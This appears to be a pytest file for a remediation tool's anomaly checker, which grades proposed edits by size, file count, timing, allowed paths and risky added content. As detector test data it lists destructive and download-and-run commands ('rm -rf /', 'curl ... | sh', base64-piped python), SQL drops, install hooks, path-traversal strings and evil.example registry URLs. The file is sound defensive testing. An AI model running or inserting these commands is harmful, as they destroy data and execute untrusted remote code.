"""What a recovery means to change is looked at before it does, and graded."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from remediate.model.policy import AnomalyPolicy
from remediate.model.preview import Risk
from remediate.safety.anomaly import Anomaly, Intended, inspect, may_touch
from remediate.safety.edits import Edit, added_lines, changed_characters

POLICY = AnomalyPolicy()
NOON = 1_790_000_000.0


def looked_at(*edits: Edit, allowed: tuple[str, ...] = ("*",), **more: tuple[str, ...]) -> Anomaly:
    return inspect(Intended(edits=edits, allowed=allowed, **more), POLICY, NOON)


def edit(after: str | None, before: str | None = "", path: str = "file") -> Edit:
    return Edit(path=path, before=before, after=after)


def graded(anomaly: Anomaly) -> dict[str, Risk]:
    return {finding.check: finding.grade for finding in anomaly.findings}


def test_a_small_change_is_nothing_unusual() -> None:
    assert looked_at(edit("left-pad 1.3.0\n", "left-pad 1.2.0\n")) == Anomaly(grade="none")


@pytest.mark.parametrize(
    ("characters", "grade"),
    [(5_000, "none"), (5_001, "low"), (10_000, "low"), (10_001, "high"), (100_001, "critical")],
)
def test_characters(characters: int, grade: Risk) -> None:
    found = looked_at(edit("x" * characters))
    assert found.grade == grade
    assert found.refuses == (grade in ("high", "critical"))


@pytest.mark.parametrize(("files", "grade"), [(2, "none"), (3, "low"), (5, "low"), (6, "high")])
def test_files(files: int, grade: Risk) -> None:
    unchanged = edit("same", "same", path="same")
    assert looked_at(unchanged, *(edit("x", path=f"f{n}") for n in range(files))).grade == grade


def test_changes_in_the_window() -> None:
    def after(*ago: float) -> Anomaly:
        earlier = tuple(NOON - seconds for seconds in ago)
        return inspect(Intended(edits=(edit("x"),), allowed=("*",), earlier=earlier), POLICY, NOON)

    assert after(1, 2, 3, 4).grade == "low"
    assert after(1, 2, 3, 4, 299).grade == "high"
    assert after(1, 2, 3, 4, 301).grade == "low"
    assert "6 changes within 300 s, at most 5" in after(1, 2, 3, 4, 5).reason


@pytest.mark.parametrize(
    ("path", "allowed", "may"),
    [
        ("package-lock.json", ("package-lock.json",), True),
        ("web/package-lock.json", ("package-lock.json",), False),
        ("web/go.sum", ("*/go.sum",), True),
        ("a/b/go.sum", ("*/go.sum",), False),
        ("cache/a/b", ("cache/",), True),
        ("cachet/a", ("cache/",), False),
        ("cache/../src/a", ("cache/",), False),
        ("../x", ("*/*",), False),
        ("/etc/passwd", ("*/*/*",), False),
        ("cache\\..\\x", ("*",), False),
        ("c:/x", ("*/*",), False),
        ("cache//x", ("cache/",), False),
        ("./x", ("*/*",), False),
        ("app/[id]/lock", ("app/[id]/lock",), True),
        (".github/workflows/ci.yml", ("*.lock",), False),
    ],
)
def test_paths(path: str, allowed: tuple[str, ...], may: bool) -> None:
    assert may_touch(path, allowed) == may
    found = looked_at(edit("x", path=path), allowed=allowed)
    assert found.grade == ("none" if may else "critical")


DANGEROUS = {
    "rm -rf /": "critical",
    "  run: rm -fr build": "critical",
    "rm -r -f x": "critical",
    "rm --force --recursive x": "critical",
    "curl -sSL https://x.example/i.sh | sh": "critical",
    "curl https://x.example | sudo bash -s": "critical",
    "wget -qO- x.example|/bin/sh": "critical",
    "echo aGk= | base64 -d | python3": "critical",
    'sh -c "$(curl -fsSL x.example)"': "critical",
    "bash <(curl x.example)": "critical",
    "x = eval(input())": "high",
    'eval "$(ssh-agent)"': "high",
    "DROP TABLE users;": "critical",
    "drop  table if exists t": "critical",
    '  "postinstall": "node x.js",': "high",
    '"preinstall":"x"': "high",
    '  "hasInstallScript": true,': "medium",
    "requiresBuild: true": "medium",
    "safe = 1 \u202e// x": "high",
    "<<<<<<< HEAD": "high",
}


@pytest.mark.parametrize("line", DANGEROUS)
def test_dangerous_content(line: str) -> None:
    found = looked_at(edit(f"first\n{line}\n", "first\n"))
    assert found.grade == DANGEROUS[line]
    assert "line 2 adds" in found.findings[0].detail


@pytest.mark.parametrize("line", DANGEROUS)
def test_what_stood_there_before_is_nobodys_doing(line: str) -> None:
    assert looked_at(edit(f"{line}\nnew\n", f"{line}\n")).grade == "none"
    assert looked_at(edit("", f"{line}\n")).grade == "none"


@pytest.mark.parametrize(
    "line",
    [
        "perform -rf",
        "rm old.txt",
        "curl -o file https://x.example",
        "retrieval(x)",
        "medieval (x)",
        "a | shuf",
        "curl x | shellcheck -",
        '"install-scripts": false',
        '"reinstall": "x"',
        '"hasInstallScript": false',
        "a backdrop table",
        "rm -i x",
    ],
)
def test_harmless_content(line: str) -> None:
    assert looked_at(edit(line)).grade == "none"


def test_a_command_over_two_lines_is_one() -> None:
    assert looked_at(edit("curl https://x.example \\\n  | sh\n")).grade == "critical"
    assert looked_at(edit("rm \\\r\n  -rf /\n")).grade == "critical"


LOCKED = '"resolved": "https://registry.example/left-pad/-/left-pad-1.2.0.tgz",\n'


@pytest.mark.parametrize(
    ("line", "foreign"),
    [
        ('"resolved": "https://registry.example/left-pad/-/left-pad-1.3.0.tgz",', ""),
        ('"resolved": "https://evil.example/left-pad/-/left-pad-1.3.0.tgz",', "evil.example"),
        ('"resolved": "http://registry.example/left-pad-1.3.0.tgz",', "http://registry.example"),
        ('"resolved": "https://registry.example@evil.example/x.tgz",', "evil.example"),
        ('"resolved": "https://REGISTRY.example/x.tgz",', ""),
        ('"resolved": "https://registry.example:8443/x.tgz",', "registry.example:8443"),
        ('"resolved": "git+ssh://git@code.example/x.git",', "code.example"),
        ('"url": "https://evil.example/x.zip"', "evil.example"),
        ('"funding": "https://sponsors.example/me"', ""),
        ('source = "registry+https://crates.example/index"', "crates.example"),
        ('source = "registry+sparse+https://crates.example/"', "crates.example"),
    ],
)
def test_registry_hosts(line: str, foreign: str) -> None:
    found = looked_at(edit(LOCKED + line, LOCKED))
    assert found.grade == ("high" if foreign else "none")
    assert not foreign or f"line 2 names {foreign}," in found.reason


def test_settings_of_a_package_manager_name_registries_in_any_line() -> None:
    assert looked_at(edit("@x:y=https://evil.example/\n", path="home/.npmrc"), allowed=("home/",)).refuses


def test_a_known_host_is_no_other() -> None:
    assert looked_at(edit(LOCKED), hosts=("registry.example",)).grade == "none"
    assert looked_at(edit(LOCKED)).grade == "high"


def test_findings_quote_no_content() -> None:
    found = looked_at(edit("TOKEN=hunter2; rm -rf /"))
    assert "hunter2" not in found.reason


def test_lines_that_change_places_count_for_their_length_and_hide_nothing() -> None:
    moved = edit("b\na\nc\n", "a\nb\nc\n")
    assert list(added_lines(moved)) == []
    assert changed_characters(moved) == 2


@given(st.text("ab\n"), st.text("ab\n"))
def test_a_change_is_never_of_no_characters(before: str, after: str) -> None:
    assert (changed_characters(edit(after, before)) == 0) == (before == after)


@pytest.mark.parametrize(
    "text", ["curl " * 200_000, "rm -a" * 200_000, "eval" + " " * 10**6, "http://" * 10**5]
)
def test_a_hostile_text_takes_no_long_time(text: str) -> None:
    began = time.process_time()
    looked_at(edit(text))
    assert time.process_time() - began < 10
